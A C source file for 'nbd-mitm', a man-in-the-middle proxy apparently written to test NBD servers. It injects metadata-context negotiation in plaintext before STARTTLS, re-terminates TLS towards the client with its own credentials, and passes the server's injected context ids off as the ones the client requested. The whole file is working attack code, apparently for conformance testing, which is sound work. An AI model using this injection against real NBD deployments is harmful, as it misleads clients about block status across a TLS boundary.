/* nbd-mitm: a man in the middle between an NBD client and a
 * SELECTIVETLS server, for the three-party attack on metadata contexts
 * across STARTTLS (the spec's "TLS support" section: a server MUST
 * forget the negotiation state of the plaintext phase).
 * Copyright (C) 2026 the tlsguard authors.  BSD-3-Clause, see COPYING.
 *
 * For each client it accepts, nbd-mitm connects to the upstream server
 * and:
 *
 *  1. relays the greeting and the client's flags unchanged;
 *  2. when the client sends NBD_OPT_STARTTLS, first talks to the server
 *     in plaintext: NBD_OPT_STRUCTURED_REPLY, then
 *     NBD_OPT_SET_META_CONTEXT(inject-export, inject-context...),
 *     remembering the context ids the server gives, then
 *     NBD_OPT_STARTTLS and a TLS handshake as the client; only then
 *     does it ACK the client's STARTTLS and do the handshake as the
 *     server, with its own credentials;
 *  3. answers the client's NBD_OPT_SET_META_CONTEXT itself: one
 *     NBD_REP_META_CONTEXT per injected context, carrying the server's
 *     id and the name of the client's query in the same position (the
 *     injected name when the client asked for fewer), then NBD_REP_ACK.
 *     Every other option (STRUCTURED_REPLY, LIST, INFO, GO, ...) and
 *     its replies are relayed;
 *  4. after a successful GO (or EXPORT_NAME) relays requests and
 *     replies, whole messages at a time, until either side closes.
 *
 * A server that follows the spec forgets the injected contexts at
 * STARTTLS, so the client's BLOCK_STATUS fails with EINVAL.  A server
 * that keeps them answers with extents for the injected context, which
 * the client takes for the context it asked for.
 */

#include <config.h>

#include <stdbool.h>
#include <stdint.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <poll.h>
#include <unistd.h>

#include "cli.h"
#include "error.h"
#include "listener.h"
#include "transport.h"
#include "wire.h"

/* What --help and the error messages say the tool is. */
static const struct cli_tool tool = {
  .name = "nbd-mitm",
  .tls_required = true,
  .about =
  "A man in the middle for the NBD STARTTLS metadata-context attack.  When\n"
  "the client sends NBD_OPT_STARTTLS, nbd-mitm sends the server\n"
  "NBD_OPT_STRUCTURED_REPLY and NBD_OPT_SET_META_CONTEXT in plaintext,\n"
  "upgrades the server connection, then terminates TLS towards the client\n"
  "with its own credentials.  It answers the client's SET_META_CONTEXT\n"
  "itself with the server's ids for the injected contexts, and relays\n"
  "everything else.\n",
};

#define NEGOTIATE_TIMEOUT  60000        /* ms, per read while negotiating */
#define HANDSHAKE_TIMEOUT  30000        /* ms */
#define MESSAGE_TIMEOUT    60000        /* ms, rest of a started message */
#define MAX_OPT_REPLY      (16 * 1024 * 1024)
#define MAX_DATA           (64 * 1024 * 1024)
#define MAX_INJECT         16

struct mitm {
  const char *up_unix, *up_tcp;
  struct tport_creds *server_creds;     /* towards the client */
  struct tport_creds *client_creds;     /* towards the server */
  const char *inject_export;
  const char *inject_ctx[MAX_INJECT];
  size_t ninject_ctx;
};

/* A READ in flight: its reply's payload length is known only from the
 * request when the reply is simple.
 */
struct inflight {
  uint64_t cookie;
  uint32_t length;
};

struct relay {
  const struct mitm *m;
  struct tport *cl, *up;
  struct wire_buf out;
  bool no_zeroes;
  bool injected;
  size_t nids;
  uint32_t ids[MAX_INJECT];
  char *names[MAX_INJECT];
  struct inflight *reads;
  size_t nreads, capreads;
};

/* --- I/O helpers --------------------------------------------------- */

static const char *
side_name (const struct relay *rl, const struct tport *t)
{
  return t == rl->cl ? "client" : "server";
}

/* Read exactly len bytes.  Returns 1, 0 on a clean EOF before the
 * first byte (only if eof_ok), or -1 (logged).
 */
static int
xread (struct relay *rl, struct tport *t, void *buf, size_t len,
       int timeout_ms, bool eof_ok)
{
  ssize_t r;

  if (len == 0)
    return 1;
  r = tport_read (t, buf, len, timeout_ms);
  if (r == -1) {
    log_msg ("reading from the %s: %s", side_name (rl, t), tport_error (t));
    return -1;
  }
  if (r == 0 && eof_ok) {
    log_debug ("the %s closed the connection", side_name (rl, t));
    return 0;
  }
  if ((size_t) r < len) {
    log_msg ("the %s closed the connection in the middle of a message",
             side_name (rl, t));
    return -1;
  }
  return 1;
}

static int
xwrite (struct relay *rl, struct tport *t, const void *buf, size_t len)
{
  if (tport_write (t, buf, len) == -1) {
    log_msg ("writing to the %s: %s", side_name (rl, t), tport_error (t));
    return -1;
  }
  return 0;
}

/* Send and empty rl->out.  What goes into it is not checked: the
 * encoders fail only for lengths past 4 GiB (WIRE_ETOOBIG), and every
 * name here comes from the command line or is bounded by
 * WIRE_MAX_STRING.
 */
static int
flush_to (struct relay *rl, struct tport *t)
{
  int r = 0;

  if (rl->out.len)
    r = xwrite (rl, t, rl->out.data, rl->out.len);
  wire_buf_reset (&rl->out);
  return r;
}

/* Copy len bytes from one side to the other in pieces. */
static int
copy_bytes (struct relay *rl, struct tport *from, struct tport *to,
            uint64_t len)
{
  uint8_t buf[65536];

  while (len > 0) {
    size_t n = len > sizeof buf ? sizeof buf : len;
    if (xread (rl, from, buf, n, MESSAGE_TIMEOUT, false) != 1 ||
        xwrite (rl, to, buf, n) == -1)
      return -1;
    len -= n;
  }
  return 0;
}

/* Read one option reply from the server into hdr/payload (payload is
 * allocated, caller frees).  Returns 0 or -1.
 */
static int
read_opt_reply (struct relay *rl, struct wire_opt_reply *rep,
                uint8_t hdr[WIRE_OPT_REP_HDR_LEN], uint8_t **payload)
{
  int r;

  *payload = NULL;
  if (xread (rl, rl->up, hdr, WIRE_OPT_REP_HDR_LEN, NEGOTIATE_TIMEOUT,
             false) != 1)
    return -1;
  r = wire_dec_opt_reply_hdr (hdr, WIRE_OPT_REP_HDR_LEN, rep, MAX_OPT_REPLY);
  if (r != WIRE_OK) {
    log_msg ("bad option reply from the server: %s", wire_status_name (r));
    return -1;
  }
  *payload = xmalloc (rep->len);
  if (xread (rl, rl->up, *payload, rep->len, NEGOTIATE_TIMEOUT, false) != 1) {
    free (*payload);
    *payload = NULL;
    return -1;
  }
  return 0;
}

static bool
is_final (uint32_t type)
{
  return type == NBD_REP_ACK || (type & NBD_REP_FLAG_ERROR);
}

/* Send one option of our own to the server. */
static int
send_option (struct relay *rl, uint32_t opt, const void *data, uint32_t len)
{
  log_debug ("mitm -> server: %s (%" PRIu32 " bytes)%s", wire_opt_name (opt),
             len, tport_is_tls (rl->up) ? " over TLS" : " in plaintext");
  wire_enc_option (&rl->out, opt, data, len);
  return flush_to (rl, rl->up);
}

/* --- the injection (step 2) ---------------------------------------- */

/* Upgrade one side's connection: the mitm is the server towards the
 * client and the client towards the server.
 */
static int
upgrade (struct relay *rl, struct tport *t)
{
  bool to_client = t == rl->cl;

  if (tport_starttls (t, to_client ? rl->m->server_creds
                      : rl->m->client_creds,
                      to_client ? TPORT_SERVER : TPORT_CLIENT,
                      HANDSHAKE_TIMEOUT) == -1) {
    log_msg ("TLS handshake with the %s failed: %s", side_name (rl, t),
             tport_error (t));
    return -1;
  }
  log_debug ("TLS established with the %s", side_name (rl, t));
  return 0;
}

/* Send the server an option without payload and read its replies up
 * to the final one.  Returns that one's type, or 0 on error.
 */
static uint32_t
server_option (struct relay *rl, uint32_t opt)
{
  struct wire_opt_reply rep;
  uint8_t hdr[WIRE_OPT_REP_HDR_LEN];
  uint8_t *payload;

  if (send_option (rl, opt, NULL, 0) == -1)
    return 0;
  do {
    if (read_opt_reply (rl, &rep, hdr, &payload) == -1)
      return 0;
    free (payload);
    log_debug ("server -> mitm: %s", wire_rep_name (rep.type));
  } while (!is_final (rep.type));
  return rep.type;
}

/* NBD_OPT_SET_META_CONTEXT for the injected export and contexts,
 * keeping the ids the server gives.
 */
static int
inject_meta (struct relay *rl)
{
  const struct mitm *m = rl->m;
  struct wire_opt_reply rep;
  uint8_t hdr[WIRE_OPT_REP_HDR_LEN];
  uint8_t *payload;
  size_t i;

  log_debug ("injecting SET_META_CONTEXT for export \"%s\"",
             m->inject_export);
  wire_enc_opt_meta (&rl->out, NBD_OPT_SET_META_CONTEXT, m->inject_export,
                     m->inject_ctx, m->ninject_ctx);
  if (flush_to (rl, rl->up) == -1)
    return -1;
  do {
    struct wire_str name;
    uint32_t id;

    if (read_opt_reply (rl, &rep, hdr, &payload) == -1)
      return -1;
    if (rep.type != NBD_REP_META_CONTEXT)
      log_debug ("server -> mitm: %s", wire_rep_name (rep.type));
    else if (wire_dec_rep_meta_context (payload, rep.len, &id, &name)
             != WIRE_OK) {
      log_msg ("bad NBD_REP_META_CONTEXT from the server");
      free (payload);
      return -1;
    }
    else if (rl->nids < MAX_INJECT) {
      rl->ids[rl->nids] = id;
      rl->names[rl->nids] = wire_str_dup (&name);
      log_debug ("server -> mitm: NBD_REP_META_CONTEXT id %" PRIu32
                 " \"%s\"", id, rl->names[rl->nids]);
      rl->nids++;
    }
    free (payload);
  } while (!is_final (rep.type));
  if (rep.type != NBD_REP_ACK)
    log_msg ("the server refused the injected SET_META_CONTEXT in "
             "plaintext (%s)", wire_rep_name (rep.type));
  log_msg ("injected %zu context(s) for export \"%s\" in plaintext",
           rl->nids, m->inject_export);
  for (i = 0; i < rl->nids; ++i)
    log_msg ("  injected context id %" PRIu32 " = %s", rl->ids[i],
             rl->names[i]);
  return 0;
}

/* Returns 1 if the server connection is now TLS, 0 if the server
 * refused STARTTLS (its error reply is in *refusal_type), -1 on error.
 */
static int
inject (struct relay *rl, uint32_t *refusal_type)
{
  uint32_t type;

  /* NBD_OPT_STRUCTURED_REPLY, so that SET_META_CONTEXT is valid. */
  type = server_option (rl, NBD_OPT_STRUCTURED_REPLY);
  if (type == 0)
    return -1;
  if (type != NBD_REP_ACK)
    log_msg ("the server refused NBD_OPT_STRUCTURED_REPLY in plaintext "
             "(%s)", wire_rep_name (type));
  if (inject_meta (rl) == -1)
    return -1;

  /* NBD_OPT_STARTTLS upstream. */
  type = server_option (rl, NBD_OPT_STARTTLS);
  if (type == 0)
    return -1;
  if (type != NBD_REP_ACK) {
    log_msg ("the server refused NBD_OPT_STARTTLS (%s)",
             wire_rep_name (type));
    *refusal_type = type;
    return 0;
  }
  return upgrade (rl, rl->up) == -1 ? -1 : 1;
}

/* The client's STARTTLS. */
static int
client_starttls (struct relay *rl, uint32_t len)
{
  uint32_t refusal = 0;
  int r;

  if (len != 0) {
    log_msg ("the client sent a payload with STARTTLS; refusing it");
    wire_enc_opt_reply (&rl->out, NBD_OPT_STARTTLS, NBD_REP_ERR_INVALID,
                        NULL, 0);
    return flush_to (rl, rl->cl);
  }
  r = inject (rl, &refusal);
  if (r == -1)
    return -1;
  if (r == 0) {
    /* Pass the server's refusal on; both sides stay in plaintext. */
    wire_enc_opt_reply (&rl->out, NBD_OPT_STARTTLS, refusal, NULL, 0);
    return flush_to (rl, rl->cl);
  }
  rl->injected = true;

  log_debug ("mitm -> client: NBD_REP_ACK to STARTTLS");
  wire_enc_opt_reply (&rl->out, NBD_OPT_STARTTLS, NBD_REP_ACK, NULL, 0);
  if (flush_to (rl, rl->cl) == -1)
    return -1;
  return upgrade (rl, rl->cl);
}

/* The client's SET_META_CONTEXT after the injection (step 3). */
static int
client_set_meta (struct relay *rl, const uint8_t *payload, uint32_t len)
{
  struct wire_meta_req mr;
  size_t i;
  int r;

  r = wire_dec_opt_meta (payload, len, &mr);
  if (r != WIRE_OK) {
    log_msg ("malformed SET_META_CONTEXT from the client (%s)",
             wire_status_name (r));
    wire_enc_opt_reply (&rl->out, NBD_OPT_SET_META_CONTEXT,
                        NBD_REP_ERR_INVALID, NULL, 0);
    return flush_to (rl, rl->cl);
  }
  log_msg ("answering the client's SET_META_CONTEXT (export \"%.*s\", "
           "%" PRIu32 " queries) with the server's plaintext ids",
           (int) mr.exportname.len,
           mr.exportname.ptr ? mr.exportname.ptr : "", mr.nq);
  if (mr.nq > 0)
    for (i = 0; i < rl->nids; ++i) {
      struct wire_str *q = i < mr.nq ? &mr.queries[i] : NULL;
      char name[WIRE_MAX_STRING + 1];

      if (q) {
        if (q->len)
          memcpy (name, q->ptr, q->len);
        name[q->len] = '\0';
      }
      else
        snprintf (name, sizeof name, "%s", rl->names[i]);
      log_msg ("  mitm -> client: NBD_REP_META_CONTEXT id %" PRIu32
               " \"%s\" (really %s)", rl->ids[i], name, rl->names[i]);
      wire_enc_rep_meta_context (&rl->out, NBD_OPT_SET_META_CONTEXT,
                                 rl->ids[i], name);
    }
  wire_enc_opt_reply (&rl->out, NBD_OPT_SET_META_CONTEXT, NBD_REP_ACK,
                      NULL, 0);
  return flush_to (rl, rl->cl);
}

/* Relay the server's replies to a forwarded option up to the final
 * one.  Returns that reply's type, or 0 on error.
 */
static uint32_t
relay_replies (struct relay *rl, uint32_t opt)
{
  struct wire_opt_reply rep;
  uint8_t hdr[WIRE_OPT_REP_HDR_LEN];
  uint8_t *payload;

  do {
    if (read_opt_reply (rl, &rep, hdr, &payload) == -1)
      return 0;
    log_debug ("server -> client: %s (%" PRIu32 " bytes)",
               wire_rep_name (rep.type), rep.len);
    if (xwrite (rl, rl->cl, hdr, sizeof hdr) == -1 ||
        xwrite (rl, rl->cl, payload, rep.len) == -1) {
      free (payload);
      return 0;
    }
    free (payload);
  } while (!is_final (rep.type));
  return rep.type;
}

enum { NEG_CLOSE = -1, NEG_TRANSMIT = 1 };

static int
negotiate (struct relay *rl)
{
  uint8_t hdr[WIRE_OPT_REQ_HDR_LEN];
  uint8_t *payload = xmalloc (WIRE_MAX_OPT_PAYLOAD);
  int ret = NEG_CLOSE;

  for (;;) {
    struct wire_opt_req req;
    uint32_t final;
    int r;

    r = xread (rl, rl->cl, hdr, sizeof hdr, NEGOTIATE_TIMEOUT, true);
    if (r != 1)
      break;
    r = wire_dec_opt_req_hdr (hdr, sizeof hdr, &req, WIRE_MAX_OPT_PAYLOAD);
    if (r != WIRE_OK) {
      log_msg ("bad option header from the client (%s)",
               wire_status_name (r));
      break;
    }
    if (xread (rl, rl->cl, payload, req.len, NEGOTIATE_TIMEOUT, false) != 1)
      break;
    log_debug ("client -> mitm: %s (%" PRIu32 " bytes)%s",
               wire_opt_name (req.opt), req.len,
               tport_is_tls (rl->cl) ? " over TLS" : " in plaintext");

    if (req.opt == NBD_OPT_STARTTLS && !tport_is_tls (rl->cl)) {
      if (client_starttls (rl, req.len) == -1)
        break;
      continue;
    }
    if (req.opt == NBD_OPT_SET_META_CONTEXT && rl->injected) {
      if (client_set_meta (rl, payload, req.len) == -1)
        break;
      continue;
    }

    /* Everything else goes to the server as it is. */
    log_debug ("client -> server: %s", wire_opt_name (req.opt));
    if (xwrite (rl, rl->up, hdr, sizeof hdr) == -1 ||
        xwrite (rl, rl->up, payload, req.len) == -1)
      break;

    if (req.opt == NBD_OPT_EXPORT_NAME) {
      uint8_t rep[WIRE_EXPORT_NAME_REPLY_LEN + 124];
      size_t n = WIRE_EXPORT_NAME_REPLY_LEN + (rl->no_zeroes ? 0 : 124);
      if (xread (rl, rl->up, rep, n, NEGOTIATE_TIMEOUT, false) != 1 ||
          xwrite (rl, rl->cl, rep, n) == -1)
        break;
      ret = NEG_TRANSMIT;
      break;
    }
    if (req.opt == NBD_OPT_ABORT) {
      relay_replies (rl, req.opt);
      break;
    }
    final = relay_replies (rl, req.opt);
    if (final == 0)
      break;
    if (req.opt == NBD_OPT_GO && final == NBD_REP_ACK) {
      ret = NEG_TRANSMIT;
      break;
    }
  }
  free (payload);
  return ret;
}

/* --- transmission (step 4) ----------------------------------------- */

static int
reads_add (struct relay *rl, uint64_t cookie, uint32_t length)
{
  if (rl->nreads == rl->capreads) {
    size_t cap = rl->capreads ? rl->capreads * 2 : 64;

    if (cap > 65536) {
      log_msg ("too many reads in flight");
      return -1;
    }
    rl->reads = xrealloc (rl->reads, cap * sizeof *rl->reads);
    rl->capreads = cap;
  }
  rl->reads[rl->nreads].cookie = cookie;
  rl->reads[rl->nreads].length = length;
  rl->nreads++;
  return 0;
}

/* Remove a READ from the table; returns its length, or -1 if the
 * cookie is not a READ in flight.
 */
static int64_t
reads_take (struct relay *rl, uint64_t cookie)
{
  size_t i;

  for (i = 0; i < rl->nreads; ++i)
    if (rl->reads[i].cookie == cookie) {
      uint32_t len = rl->reads[i].length;
      rl->reads[i] = rl->reads[--rl->nreads];
      return len;
    }
  return -1;
}

/* One request from the client.  Returns 1, 0 at EOF, -1 on error. */
static int
relay_request (struct relay *rl)
{
  uint8_t hdr[WIRE_REQUEST_LEN];
  struct wire_request rq;
  int r;

  r = xread (rl, rl->cl, hdr, 4, -1, true);
  if (r != 1)
    return r;
  if (xread (rl, rl->cl, hdr + 4, sizeof hdr - 4, MESSAGE_TIMEOUT, false) != 1)
    return -1;
  r = wire_dec_request (hdr, sizeof hdr, &rq);
  if (r != WIRE_OK) {
    log_msg ("bad request from the client (%s)", wire_status_name (r));
    return -1;
  }
  log_debug ("client -> server: %s cookie %" PRIu64 " offset %" PRIu64
             " length %" PRIu32, wire_cmd_name (rq.type), rq.cookie,
             rq.offset, rq.length);
  if (rq.type == NBD_CMD_READ && reads_add (rl, rq.cookie, rq.length) == -1)
    return -1;
  if (xwrite (rl, rl->up, hdr, sizeof hdr) == -1)
    return -1;
  if (rq.type == NBD_CMD_WRITE) {
    if (rq.length > MAX_DATA) {
      log_msg ("write of %" PRIu32 " bytes is too large", rq.length);
      return -1;
    }
    if (copy_bytes (rl, rl->cl, rl->up, rq.length) == -1)
      return -1;
  }
  return 1;
}

static void
log_chunk (const struct wire_reply *rp, const uint8_t *payload)
{
  if (rp->type == NBD_REPLY_TYPE_BLOCK_STATUS) {
    struct wire_extent ext[64];
    uint32_t id;
    size_t n = 0, i;
    int r = wire_dec_chunk_block_status (payload, rp->len, &id, ext, 64, &n);
    if (r == WIRE_OK || r == WIRE_ETOOBIG) {
      log_msg ("server -> client: block status for context id %" PRIu32
               ", %zu extent(s)", wire_get_u32 (payload), n);
      for (i = 0; i < n && r == WIRE_OK; ++i)
        log_debug ("  extent %" PRIu32 " flags 0x%" PRIx32,
                   ext[i].length, ext[i].flags);
    }
  }
  else if (rp->type & (1u << 15)) {
    struct wire_str msg;
    uint32_t err;
    if (wire_dec_chunk_error (payload, rp->len, rp->type, &err, &msg,
                              NULL) == WIRE_OK)
      log_msg ("server -> client: error chunk %s: %.*s",
               wire_errno_name (err), (int) msg.len,
               msg.ptr ? msg.ptr : "");
  }
}

/* One reply message (a simple reply or one chunk) from the server. */
static int
relay_reply (struct relay *rl)
{
  uint8_t hdr[WIRE_CHUNK_HDR_LEN];
  struct wire_reply rp;
  size_t need = 4;
  int r;

  r = xread (rl, rl->up, hdr, 4, -1, true);
  if (r != 1)
    return r;
  r = wire_dec_reply_hdr (hdr, 4, &rp, &need, MAX_DATA);
  if (r == WIRE_SHORT) {
    if (xread (rl, rl->up, hdr + 4, need - 4, MESSAGE_TIMEOUT, false) != 1)
      return -1;
    r = wire_dec_reply_hdr (hdr, need, &rp, &need, MAX_DATA);
  }
  if (r != WIRE_OK) {
    log_msg ("bad reply from the server (%s)", wire_status_name (r));
    return -1;
  }
  if (xwrite (rl, rl->cl, hdr, need) == -1)
    return -1;

  if (!rp.structured) {
    int64_t rlen = reads_take (rl, rp.cookie);
    log_debug ("server -> client: simple reply cookie %" PRIu64 " error %s",
               rp.cookie, rp.error ? wire_errno_name (rp.error) : "0");
    if (rp.error)
      log_msg ("server -> client: simple error reply %s",
               wire_errno_name (rp.error));
    if (rlen > 0 && rp.error == 0)
      return copy_bytes (rl, rl->up, rl->cl, rlen) == -1 ? -1 : 1;
    return 1;
  }

  log_debug ("server -> client: chunk %s cookie %" PRIu64 " flags 0x%x "
             "length %" PRIu32, wire_chunk_name (rp.type), rp.cookie,
             rp.flags, rp.len);
  if (rp.flags & NBD_REPLY_FLAG_DONE)
    reads_take (rl, rp.cookie);
  if (rp.type == NBD_REPLY_TYPE_BLOCK_STATUS || (rp.type & (1u << 15))) {
    /* Small: read it whole so that it can be logged. */
    uint8_t *payload;
    if (rp.len > 8 * 1024 * 1024 + 4) {
      log_msg ("oversized chunk from the server");
      return -1;
    }
    payload = xmalloc (rp.len);
    if (xread (rl, rl->up, payload, rp.len, MESSAGE_TIMEOUT, false) != 1 ||
        xwrite (rl, rl->cl, payload, rp.len) == -1) {
      free (payload);
      return -1;
    }
    log_chunk (&rp, payload);
    free (payload);
    return 1;
  }
  return copy_bytes (rl, rl->up, rl->cl, rp.len) == -1 ? -1 : 1;
}

static int
transmit (struct relay *rl)
{
  for (;;) {
    int a, b, r;

    a = tport_wait_readable (rl->cl, 0);
    b = tport_wait_readable (rl->up, 0);
    if (a == -1 || b == -1) {
      log_msg ("poll: %m");
      return -1;
    }
    if (a == 0 && b == 0) {
      struct pollfd pfd[2] = {
        { .fd = tport_fd (rl->cl), .events = POLLIN },
        { .fd = tport_fd (rl->up), .events = POLLIN },
      };
      if (poll (pfd, 2, -1) == -1 && errno != EINTR) {
        log_msg ("poll: %m");
        return -1;
      }
      continue;
    }
    if (a) {
      r = relay_request (rl);
      if (r <= 0)
        return r;
    }
    if (b) {
      r = relay_reply (rl);
      if (r <= 0)
        return r;
    }
  }
}

/* --- one client ---------------------------------------------------- */

static int
handle_client (int fd, void *opaque)
{
  const struct mitm *m = opaque;
  struct relay rl;
  uint8_t buf[WIRE_GREETING_LEN];
  uint16_t hflags;
  uint32_t cflags;
  int upfd, status = 1;
  size_t i;

  memset (&rl, 0, sizeof rl);
  rl.m = m;
  wire_buf_init (&rl.out);
  rl.cl = tport_new (fd);
  if (rl.cl == NULL) {
    log_msg ("tport_new: %m");
    close (fd);
    return 1;
  }
  upfd = m->up_unix ? tport_connect_unix (m->up_unix)
    : tport_connect_tcp (m->up_tcp);
  if (upfd == -1) {
    log_msg ("cannot connect to the server %s: %m",
             m->up_unix ? m->up_unix : m->up_tcp);
    goto out;
  }
  rl.up = tport_new (upfd);
  if (rl.up == NULL) {
    log_msg ("tport_new: %m");
    close (upfd);
    goto out;
  }
  log_debug ("client accepted; connected to the server");

  /* Step 1: greeting and flags, unchanged. */
  if (xread (&rl, rl.up, buf, WIRE_GREETING_LEN, NEGOTIATE_TIMEOUT,
             false) != 1)
    goto out;
  if (wire_dec_greeting (buf, WIRE_GREETING_LEN, &hflags) != WIRE_OK ||
      !(hflags & NBD_FLAG_FIXED_NEWSTYLE)) {
    log_msg ("the server is not a fixed newstyle server");
    goto out;
  }
  log_debug ("server -> client: greeting, flags 0x%x", hflags);
  if (xwrite (&rl, rl.cl, buf, WIRE_GREETING_LEN) == -1 ||
      xread (&rl, rl.cl, buf, 4, NEGOTIATE_TIMEOUT, false) != 1)
    goto out;
  wire_dec_client_flags (buf, 4, &cflags);
  log_debug ("client -> server: flags 0x%" PRIx32, cflags);
  if (!(cflags & NBD_FLAG_C_FIXED_NEWSTYLE)) {
    log_msg ("the client does not speak fixed newstyle");
    goto out;
  }
  rl.no_zeroes = (cflags & NBD_FLAG_C_NO_ZEROES) &&
    (hflags & NBD_FLAG_NO_ZEROES);
  if (xwrite (&rl, rl.up, buf, 4) == -1)
    goto out;

  /* Steps 2 and 3. */
  if (negotiate (&rl) != NEG_TRANSMIT) {
    status = 0;
    goto out;
  }
  log_debug ("transmission phase: relaying");

  /* Step 4. */
  status = transmit (&rl) == 0 ? 0 : 1;
  log_debug ("connection finished");

 out:
  tport_free (rl.cl);
  tport_free (rl.up);
  wire_buf_free (&rl.out);
  for (i = 0; i < rl.nids; ++i)
    free (rl.names[i]);
  free (rl.reads);
  return status;
}

/* --- main ---------------------------------------------------------- */

enum { OPT_LUNIX = 256, OPT_LTCP, OPT_UUNIX, OPT_UTCP, OPT_IEXPORT,
       OPT_ICTX, OPT_PIDFILE, OPT_ONCE };

static const struct cli_option options[] = {
  { "listen-unix", OPT_LUNIX, "PATH", "accept clients on this Unix socket",
    NULL, CLI_REQUIRED | CLI_OR },
  { "listen-tcp", OPT_LTCP, "HOST:PORT", "accept clients here (loopback only)",
    NULL, 0 },
  { "upstream-unix", OPT_UUNIX, "PATH", "the real server's Unix socket",
    NULL, CLI_REQUIRED | CLI_OR },
  { "upstream-tcp", OPT_UTCP, "HOST:PORT", "the real server", NULL, 0 },
  CLI_OPT_TLS_PSK ("PSK file: any user towards the client, the\n"
                   "--tls-username user upstream"),
  CLI_OPT_TLS_USERNAME ("PSK user upstream (default qemu)"),
  CLI_OPT_TLS_CERTS ("ca-cert.pem, server-cert.pem/server-key.pem\n"
                     "towards the client, client-cert.pem/client-key.pem\n"
                     "upstream"),
  { "inject-export", OPT_IEXPORT, "NAME",
    "export named in the injected SET_META_CONTEXT\n"
    "(default \"\", the default export)", NULL, 0 },
  { "inject-context", OPT_ICTX, "QUERY",
    "query to inject (repeatable, at most 16; default\n"
    "base:allocation)", NULL, CLI_REPEAT },
  { "pidfile", OPT_PIDFILE, "FILE", "write the PID here once listening",
    NULL, 0 },
  { "once", OPT_ONCE, NULL, "handle one client in-process, then exit",
    NULL, 0 },
  CLI_OPT_VERBOSE ("log every step to stderr"),
  { NULL },
};

/* What the command line sets. */
struct args {
  struct mitm *m;
  struct listener_cfg *lc;
};

static int
handle_option (int key, const char *arg, void *opaque, struct error *err)
{
  struct args *a = opaque;
  struct mitm *m = a->m;

  switch (key) {
  case OPT_LUNIX: a->lc->unix_path = arg; return 0;
  case OPT_LTCP: a->lc->tcp = arg; return 0;
  case OPT_PIDFILE: a->lc->pidfile = arg; return 0;
  case OPT_ONCE: a->lc->once = true; return 0;
  case OPT_UUNIX: m->up_unix = arg; return 0;
  case OPT_UTCP: m->up_tcp = arg; return 0;
  case OPT_IEXPORT: m->inject_export = arg; return 0;
  case OPT_ICTX:
    if (m->ninject_ctx == MAX_INJECT)
      return error_set (err, "at most %d of them", MAX_INJECT);
    m->inject_ctx[m->ninject_ctx++] = arg;
    return 0;
  }
  return -1;
}

int
main (int argc, char *argv[])
{
  struct mitm m;
  struct listener_cfg lc = { NULL, NULL, NULL, false };
  struct args a = { &m, &lc };
  struct cli_common cl;
  bool is_child;
  int status;

  log_progname = "nbd-mitm";
  memset (&m, 0, sizeof m);
  m.inject_export = "";
  cli_parse (&tool, options, handle_option, argc, argv, &a, &cl);
  log_verbose = cl.verbose;
  if (m.ninject_ctx == 0)
    m.inject_ctx[m.ninject_ctx++] = "base:allocation";

  tport_global_init (0);
  m.server_creds = cli_creds (&tool, &cl.tls, TPORT_SERVER);
  m.client_creds = cli_creds (&tool, &cl.tls, TPORT_CLIENT);

  status = listener_run (&lc, handle_client, &m, &is_child);

  tport_creds_free (m.server_creds);
  tport_creds_free (m.client_creds);
  return status;
}
